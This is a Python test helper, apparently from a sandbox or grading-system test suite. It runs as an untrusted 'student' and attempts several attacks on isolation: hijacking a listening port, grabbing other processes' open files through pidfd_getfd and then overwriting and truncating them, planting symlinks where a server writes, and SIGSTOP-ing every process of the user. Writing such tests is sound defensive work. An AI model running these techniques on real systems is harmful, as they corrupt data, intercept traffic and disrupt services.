"""What a student might try, run as that student: ``python -I -c`` of this file's text, with a function's name and arguments.

Each prints one word for each try that worked, and nothing if none did.
"""

import ctypes
import os
import signal
import socket
import sys
import time


def processes():
    """Ids of all processes of this user, but this one."""
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and int(name) != os.getpid() and os.stat(f"/proc/{name}").st_uid == os.getuid():
                yield int(name)
        except FileNotFoundError:
            continue


def take_port(port):
    """Bind a port in every way there is, to receive what is sent to its owner."""
    for address in ("127.0.0.1", "0.0.0.0"):  # noqa: S104 - the attack is to listen
        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            with socket.socket() as taker:
                if option:
                    taker.setsockopt(socket.SOL_SOCKET, option, 1)
                try:
                    taker.bind((address, int(port)))
                    taker.listen()
                except OSError:
                    continue
                print(address)


def write_into_open_files(mark):
    """Take each file that a process of one's own holds open, as a debugger does; write into it and truncate it."""
    library = ctypes.CDLL(None, use_errno=True)
    for process in processes():
        handle = os.pidfd_open(process)
        for number in range(64):
            taken = library.syscall(438, handle, number, 0)  # pidfd_getfd: the very file, not a new look at its name
            if taken < 0:
                continue
            try:
                if os.path.isabs(name := os.readlink(f"/proc/self/fd/{taken}")) and not name.startswith("/dev"):
                    os.write(taken, mark.encode())
                    os.ftruncate(taken, len(mark))
                    print(name)
            except OSError:
                pass
            os.close(taken)


def plant(link, target):
    """Put a link where a server will write, in place of what is there."""
    os.makedirs(os.path.dirname(link), exist_ok=True)
    os.symlink(target, link)
    print("planted")


def stop_everything(seconds):
    """Stop every process of one's own, as soon as there is one, for a while."""
    until = time.monotonic() + float(seconds)
    print("begun", flush=True)
    while time.monotonic() < until:
        try:
            os.kill(-1, signal.SIGSTOP)
        except ProcessLookupError:
            continue


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
